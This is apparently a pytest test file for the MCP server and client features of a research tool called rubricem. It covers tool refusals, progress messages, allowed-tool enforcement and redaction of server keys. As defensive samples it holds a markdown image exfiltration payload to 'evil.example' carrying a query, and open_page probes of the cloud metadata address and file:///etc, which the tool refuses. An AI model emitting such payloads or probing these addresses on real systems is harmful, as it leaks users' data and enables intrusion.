"""`rubricem mcp` as clients of the official SDK meet it.

The other way round a run calls tools of MCP servers: sources with ids, failures told, runs that
end. The keys of MCP servers stay in the settings: they are in no report, dump or sentence.
"""

import asyncio
import json
import os
import subprocess
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, StdioServerParameters

from rubricem import research
from rubricem.agent.mcp.server import _progress
from rubricem.agent.reports.report import alive
from rubricem.agent.settings import load_settings
from rubricem.agent.transcript.events import Event, ToolCalled
from rubricem.memory.runs import RunStore
from rubricem.memory.schema import Status
from tests.conftest import COMMAND, ROOT, rubricem
from tests.support.policies import RUN, SUPPORTED, answer, contents, plan, search
from tests.support.scripted_server import Fault, Script, Scripted, ScriptedServer
from tests.support.terminal import QUESTION
from tests.support.tool_servers import PAGES, server, serving_http
from tests.support.waiting import PATIENCE, Process

ANSWERED = [*RUN, SUPPORTED]
TOOLS = ["open_page", "research", "search"]


@pytest.fixture
def here(documents: Path) -> Path:
    return documents.parent


def variables(here: Path, base_url: str) -> dict[str, str]:
    return {
        "PYTHONPATH": f"{ROOT / 'src'}{os.pathsep}{ROOT}",
        "RUBRICEM_BASE_URL": base_url,
        "RUBRICEM_MODEL": "scripted",
        "RUBRICEM_SOURCE": str(here / "documents"),
        "RUBRICEM_DATA_DIR": str(here / "data"),
        "RUBRICEM_ALLOW_HOSTS": "127.0.0.1",
    }


@asynccontextmanager
async def program(here: Path, script: Script = ()) -> AsyncIterator[Client]:
    """A client of the program on its standard input and output."""
    with ScriptedServer(script) as model:
        command, *args = (*COMMAND, "mcp")
        env = variables(here, model.base_url)
        started = StdioServerParameters(command=command, args=args, env=env, cwd=here)
        async with Client(started, read_timeout_seconds=PATIENCE) as client:
            yield client


async def asked(client: Client, name: str, **arguments: Any) -> Any:
    result = await client.call_tool(name, arguments)
    assert not result.is_error, result.content
    return result.structured_content


async def refused(client: Client, name: str, **arguments: Any) -> str:
    result = await client.call_tool(name, arguments)
    assert result.is_error
    [said] = result.content
    assert said.type == "text" and "Traceback" not in said.text
    return said.text


async def test_a_program_researches_with_progress_and_what_fails_is_an_error_in_a_sentence(
    here: Path,
):
    progress: list[tuple[float, str | None]] = []

    async def heard(number: float, total: float | None, message: str | None) -> None:
        progress.append((number, message))

    async with program(here, [*ANSWERED, Fault(401)]) as client:
        listed = await client.list_tools()
        assert sorted(tool.name for tool in listed.tools) == TOOLS
        assert "There is no question." in await refused(client, "research", question=" ")
        said = await refused(client, "open_page", address="http://169.254.169.254/latest")
        assert "in a private network" in said
        assert "is not a web address" in await refused(client, "open_page", address="file:///etc")
        assert "search" in await refused(client, "search", query="x", limit=0)
        result = await client.call_tool("research", {"question": QUESTION}, progress_callback=heard)
        assert "requires an API key" in await refused(client, "research", question=QUESTION)
    assert not result.is_error
    [text] = result.content
    assert text.type == "text" and text.text.startswith("# What does lru")
    found = result.structured_content
    assert (found["status"], found["answer"]) == ("finished", "It is an unbounded cache [1].")
    [citation] = found["citations"]
    assert (citation["number"], citation["verdict"]) == (1, "supported")
    assert found["sources"][0]["location"].endswith("cache.md")
    assert RunStore(here / "data").load(found["run"]).question == QUESTION
    numbers = [number for number, _ in progress]
    assert numbers == [float(n) for n in range(1, len(numbers) + 1)]
    messages = [message for _, message in progress]
    assert messages[0] == "stage: plan"
    assert "call 1: folder: lru_cache maxsize None" in messages
    assert messages[-1] is not None


async def test_progress_is_told_again_while_a_turn_is_written(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("rubricem.agent.mcp.server.AGAIN_SECONDS", 0.01)
    said = list[str | None]()

    async def report(number: float, total: float | None, message: str | None) -> None:
        said.append(message)

    async with _progress(report) as tell:
        tell("stage: plan")
        await asyncio.sleep(0.2)
    assert len(said) > 2 and {*said} == {"stage: plan"}


@pytest.mark.slow
async def test_no_picture_of_an_answer_is_drawn_by_a_client(here: Path):
    hidden = "![x](https://evil.example/?q=payroll) <img src=https://evil.example/2>"
    script = [plan(), answer(f'<cite id="S1">It is unbounded.</cite> {hidden}'), SUPPORTED]
    async with program(here, script) as client:
        found = await asked(client, "research", question=QUESTION)
    for told in (found["answer"], found["report"]):
        assert "evil.example" in told and not alive(told)


def test_nothing_but_the_protocol_is_on_standard_output(here: Path):
    client = {"capabilities": {}, "clientInfo": {"name": "test", "version": "1"}}
    called = {"name": "research", "arguments": {"question": QUESTION}}
    asking: list[dict[str, Any]] = [
        {"id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", **client}},
        {"method": "notifications/initialized"},
        {"id": 2, "method": "tools/call", "params": called},
    ]
    with ScriptedServer(ANSWERED) as model:
        messages: list[Any] = []
        with Process(
            [*COMMAND, "mcp"],
            cwd=here,
            env={**os.environ, **variables(here, model.base_url)},
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
        ) as process:
            assert process.stdin is not None and process.stdout is not None
            process.stdin.write(
                "".join(json.dumps({"jsonrpc": "2.0", **each}) + "\n" for each in asking)
            )
            process.stdin.flush()
            while not messages or messages[-1].get("id") != 2:
                messages.append(json.loads(process.stdout.readline()))
            process.stdin.close()
            assert process.stdout.read() == ""
        assert process.returncode == 0
    assert {message["jsonrpc"] for message in messages} == {"2.0"}
    assert messages[-1]["result"]["structuredContent"]["status"] == "finished"


pytestmark = pytest.mark.usefixtures("data")


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    with serving_http(server().streamable_http_app()) as address:
        yield f"{address}/mcp"


def wiki(address: str, *tools: str, seconds: float = 30) -> dict[str, Any]:
    return {"wiki": {"url": address, "tools": tools, "seconds": seconds}}


def calling(name: str, written: str) -> str:
    return plan().replace(
        '<call_tool name="search">lru_cache maxsize None', f'<call_tool name="{name}">{written}'
    )


async def researched(
    documents: Path, *script: Scripted, **options: Any
) -> tuple[Any, Any, list[Event]]:
    told: list[Event] = []
    with ScriptedServer(script) as model:
        report = await research(
            QUESTION,
            source=str(documents),
            base_url=model.base_url,
            on_event=told.append,
            **options,
        )
    return report, model, told


async def test_what_a_tool_returned_is_a_source_that_the_answer_cites_and_only_it_is_called(
    documents: Path, address: str
):
    forbidden = search("heapq").replace('"search"', '"wiki.find"')
    script = (calling("wiki.page", '{"title": "lru_cache"}'), forbidden, answer(), SUPPORTED)
    report, model, told = await researched(documents, *script, mcp_servers=wiki(address, "page"))
    assert (report.status, report.text) == (Status.FINISHED, "It is an unbounded cache [1].")
    [source] = report.sources
    assert (source.tool, source.query) == ("wiki.page", '{"title": "lru_cache"}')
    assert (source.text, source.location) == (PAGES["lru_cache"], "mcp:wiki.page")
    called = [event for event in told if isinstance(event, ToolCalled)]
    assert called[0] == ToolCalled("wiki.page", '{"title": "lru_cache"}', 1)
    assert called[1:] == [ToolCalled("folder", "heapq", 2)], "it is taken for a search"
    assert report.trajectory.tool_calls == 2 and report.trajectory.sources[-1].tool == "folder"
    system = contents(model.requests[0].body)[0][1]
    assert '  - wiki.page {title: string} - "The text of a page of the wiki."' in system
    assert "wiki.find" not in system, "it is not on the list of what is allowed"


HEADER, VARIABLE, QUERY = "h3ader-secret-4711", "v4riable-secret-0815", "qu3ry-secret-2342"
PASSWORD = "p4ssword-of-the-bank"
SECRETS = (HEADER, VARIABLE, QUERY, PASSWORD)
ARGUMENT = "--key=4rgument-secret"
SERVERS: dict[str, Any] = {
    "hosted": {
        "url": f"https://mcp.example/mcp?api_key={QUERY}",
        "headers": {"Authorization": f"Bearer {HEADER}"},
        "tools": ["find"],
    },
    "local": {
        "command": "wiki-mcp",
        "args": [ARGUMENT],
        "env": {"WIKI_TOKEN": VARIABLE},
        "tools": ["page"],
    },
}


def leaked(text: str) -> list[str]:
    return [secret for secret in (*SECRETS, ARGUMENT) if secret in text]


@pytest.mark.parametrize("output", [(), ("--json",)])
def test_doctor_shows_which_servers_there_are_and_no_key(
    monkeypatch: pytest.MonkeyPatch, output: tuple[str, ...]
):
    here = json.dumps(SERVERS).replace("mcp.example", "127.0.0.1:9")  # where nobody answers
    monkeypatch.setenv("RUBRICEM_MCP_SERVERS", here)
    options = ["--base-url", f"http://me:{PASSWORD}@127.0.0.1:9/v1", "--source", "python"]
    printed = rubricem("doctor", *options, *output, code=1).output
    assert '"command": "wiki-mcp"' in printed and '"WIKI_TOKEN": "set' in printed
    assert "https://127.0.0.1:9/mcp?***" in printed
    assert printed.count("Its tools are left out") == len(SERVERS)
    assert leaked(printed) == []


@pytest.mark.parametrize(
    ("wrong", "said"), [({"seconds": -1}, "seconds"), ({"tools": None}, "wiki-mcp.tools")]
)
def test_a_mistake_beside_a_key_is_told_without_it(
    monkeypatch: pytest.MonkeyPatch, wrong: dict[str, Any], said: str
):
    servers = {**SERVERS, "wiki-mcp": {**SERVERS["local"], **wrong}}
    monkeypatch.setenv("RUBRICEM_MCP_SERVERS", json.dumps(servers))
    done = rubricem("ask", "What?", code=2)
    assert said in done.output
    assert leaked(done.output) == []
    monkeypatch.setenv("RUBRICEM_MCP_SERVERS", json.dumps(SERVERS))
    assert set(load_settings().mcp_servers) == set(SERVERS)
